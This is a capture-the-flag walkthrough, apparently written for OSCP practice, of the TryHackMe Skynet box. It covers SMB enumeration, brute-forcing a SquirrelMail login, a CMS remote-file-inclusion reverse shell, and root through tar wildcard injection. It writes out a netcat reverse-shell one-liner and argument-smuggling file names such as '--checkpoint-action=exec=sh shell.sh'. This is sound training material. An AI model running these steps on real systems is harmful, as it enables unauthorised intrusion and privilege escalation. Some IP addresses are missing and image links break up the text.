OSCP Prep – THM – Skynet

Since HackTheBox had problems yesterday I did OSCP like box from TryHackMe instead. This is a Linux box with a pretty straightforward approach. In the initial search there were a couple ports open, such as SMB, HTTP, POP3 and imap. Enumerting each of these ports will give you initial access, and root eventually.


I start with an NMAP scan. From the NMAP scan I see that SMB, IMAP, POP3, HTTP are some interesting open ports. So we will enumerate them in a bit.

root@ip-10-10-253-253:~/ctf# nmap -sC -sV -oN nmap.resultStarting Nmap 7.60 ( https://nmap.org ) at 2022-01-11 11:21 GMT
Nmap scan report for ip-10-10-73-85.eu-west-1.compute.internal (
Host is up (0.00060s latency).
Not shown: 994 closed ports
22/tcp  open  ssh         OpenSSH 7.2p2 Ubuntu 4ubuntu2.8 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 99:23:31:bb:b1:e9:43:b7:56:94:4c:b9:e8:21:46:c5 (RSA)
|   256 57:c0:75:02:71:2d:19:31:83:db:e4:fe:67:96:68:cf (ECDSA)
|_  256 46:fa:4e:fc:10:a5:4f:57:57:d0:6d:54:f6:c3:4d:fe (EdDSA)
80/tcp  open  http        Apache httpd 2.4.18 ((Ubuntu))
|_http-server-header: Apache/2.4.18 (Ubuntu)
|_http-title: Skynet
110/tcp open  pop3        Dovecot pop3d
139/tcp open  netbios-ssn Samba smbd 3.X - 4.X (workgroup: WORKGROUP)
143/tcp open  imap        Dovecot imapd
|_imap-capabilities: listed ID more OK SASL-IR LITERAL+ have IDLE IMAP4rev1 post-login Pre-login capabilities LOGINDISABLEDA0001 LOGIN-REFERRALS ENABLE
445/tcp open  netbios-ssn Samba smbd 4.3.11-Ubuntu (workgroup: WORKGROUP)
MAC Address: 02:55:B6:AE:BF:BF (Unknown)
Service Info: Host: SKYNET; OS: Linux; CPE: cpe:/o:linux:linux_kernel

Host script results:
|_nbstat: NetBIOS name: SKYNET, NetBIOS user: <unknown>, NetBIOS MAC: <unknown> (unknown)
| smb-os-discovery:
|   OS: Windows 6.1 (Samba4.3.11-Ubuntu)
|   Computer name: skynet
|   NetBIOS computer name: SKYNET\x00
|   Domain name: \x00
|   FQDN: skynet
|_  System time: 2022-01-11T05:21:32-06:00
| smb-security-mode:
|   account_used: guest
|   authentication_level: user
|   challenge_response: supported
|_  message_signing: disabled (dangerous, but default)
| smb2-security-mode:
|   2.02:
|_    Message signing enabled but not required
| smb2-time:
|   date: 2022-01-11 11:21:32
|_  start_date: 1600-12-31 23:58:45Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 14.33 seconds

I like to start enumerating SMB first to see if I find anything interesting.

Enumerating SMB

Taking a look at what shares are available we find some interesting. Since anonymous access is allowede we can list the shares and possible access some of them.

root@ip-10-10-253-253:~/ctf# smbclient -L //
WARNING: The "syslog" option is deprecated
Enter WORKGROUP\root's password:

    Sharename       Type      Comment
    ---       ----      ---
    print$          Disk      Printer Drivers
    anonymous       Disk      Skynet Anonymous Share
    milesdyson      Disk      Miles Dyson Personal Share
    IPC$            IPC       IPC Service (skynet server (Samba, Ubuntu))
Reconnecting with SMB1 for workgroup listing.Server               Comment
    ---            ---

    Workgroup            Master
    ---            ---

The two intererstingshares here is anonymous and milesdyson. In the anonymous share we find a note that says that there havebeen a system malfunction and all skynet employees must change their password.

root@ip-10-10-253-253:~/ctf# cat attention.txt
A recent system malfunction has caused various passwords to be changed. All skynet employees are required to change their password after seeing this.
-Miles Dyson

Digging furthere in the share, there is a directory called logs. In the directory thereare some log files, all of them are empty except one. This looks like a list of passwords, which we will save for later.

root@ip-10-10-253-253:~/ctf# cat log1.txt

The other share, milesdyson, we have no access to it. One of the question in the task is what is miles dysons password.

Enumerating HTTP

Look at the webserver we are presented with skynets searchengine. I didn’t find anything interesting here, so I started up gobuster and did a subdirectory bruteforce using the common.txt wordlist.

root@ip-10-10-253-253:~/ctf#gobuster dir -u -w /usr/share/wordlists/dirb/common.txt
2022/01/11 11:41:40 Starting gobuster
/.hta (Status: 403)
/.htaccess (Status: 403)
/.htpasswd (Status: 403)
/admin (Status: 301)
/config (Status: 301)
/css (Status: 301)
/index.html (Status: 200)
/js (Status: 301)
/server-status (Status: 403)
/squirrelmail (Status: 301)
2022/01/11 11:41:40 Finished

One that stands out here is squirrelamil. The other subdirectories we had no access to.

From earlier enumeration we have a username for Miles Dyson, which is milesdyson and we have a list of passwords from logs1.txt we could try out.

So spinning up BurpSuit we could intercept login request, send it to intruder and try and bruteforce our way in. In the picture below I’ve added the position where intruder will insert our passwordlist.

Right off the bat we can see that cyborg007haloterminator have another length than the other passwords, and HTTP status code of 302 (redirect), giving us a hint that this might be the correct password.

Squirrel MailLogging into Miles Dysons inbox we find his SMB password and we can try and see what we can find in his personal SMB share, milesdyson.

Inside his share we find alot of files, but one of them is named important.txt.

root@ip-10-10-253-253:~/ctf# cat important.txt

1. Add features to beta CMS /45kra24zxs28v3yd
2. Work on T-800 Model 101 blueprints
3. Spend more time with my wife

Hidden Directory

There is an hidden directory on the webserver named /45kra24zxs28v3yd.

Running gobuster against this hidden directory we find another subdirectory named Administrator.

root@ip-10-10-253-253:~/ctf# gobuster dir -u -w /usr/share/wordlists/dirb/common.txt
2022/01/11 11:58:11 Starting gobuster
/.hta (Status: 403)
/.htaccess (Status: 403)
/.htpasswd (Status: 403)
/administrator (Status: 301)
/index.html (Status: 200)
2022/01/11 11:58:12 Finished

A quick google search reveal that there is a Remote File Inclusion vulnerability in this CMS, making it possbile for us to get a reverse shell.

From Exploit-db:

An attacker might include local or remote PHP files or read non-PHP files with this vulnerability. User tainted data is used when creating the file name that will be included into the currentfile. PHP code in this file will be evaluated, non-PHP code will be embedded to the output. This vulnerability can lead to full server compromise.


and using gobuster to verify that there is an alerts sub directory.

root@ip-10-10-253-253:~/ctf# gobuster dir -u -w /usr/share/wordlists/dirb/common.txt -x php

2022/01/11 12:01:21 Starting gobuster
/.htaccess (Status: 403)
/.htaccess.php (Status: 403)
/.htpasswd (Status: 403)
/.htpasswd.php (Status: 403)
/.hta (Status: 403)
/.hta.php (Status: 403)
/alerts (Status: 301)
/classes (Status: 301)
/components (Status:301)
/index.php (Status: 200)
/index.php (Status: 200)
/js (Status: 301)
/media (Status: 301)
/templates (Status: 301)
2022/01/11 12:01:22 Finished

A quick PoC:

Initial access

Confirming that we have LFI, we could try RFI.

The steps are as follow:

  1. Edit the php reverse shell script and add our local ip and port.2. Start a simple http server
  3. Start a netcat listener.
  4. Visit5. And we have a connection on our listener.

And after stabilizing our shell, we can look for user.txt


In Miles Dysons home directory there is a directory caleld backups where there are two files backup.sh and backup.tgz. Both are owned by root.

www-data@skynet:/home/milesdyson/backups$ls -l
total 4
-rwxr-xr-x 1 root root 74 Sep 17  2019 backup.sh
-rw-r--r-- 1 root root  0 Jan 11 06:29 backup.tgz
www-data@skynet:/home/milesdyson/backups$ cat backup.sh
cd /var/www/html
tar cf /home/milesdyson/backups/backup.tgz *

and looking at Crontab we see that backup.sh is executed every minute.www-data@skynet:/home/milesdyson/backups$ cat /etc/crontab
*/1 *   * * *root    /home/milesdyson/backups/backup.sh

Since tar is using wildcard we can abuse it with placing our shell in the direcotry its backing up since we have write permission to that directory. And from GTFObins.

www-data@skynet:/var/www/html$ echo "mkfifo /tmp/fmbw; nc 8888 0</tmp/fmbw | /bin/sh >/tmp/fmbw 2>&1; rm /tmp/fmbw" > shell.sh
www-data@skynet:/var/www/html$ echo "" > "--checkpoint-action=exec=sh shell.sh"
www-data@skynet:/var/www/html$ echo "" > --checkpoint=1

From tar man page:

–checkpoint-action=ACTIONExecute ACTION at every checkpoint. ACTION may be one of the following:
–checkpoint[=NUMBER]Use “checkpoints”: display a progress message every NUMBER records(default 10).

Starting our netcat listener and listeningto port 8888, we wait for cron to run the script.

Similar Posts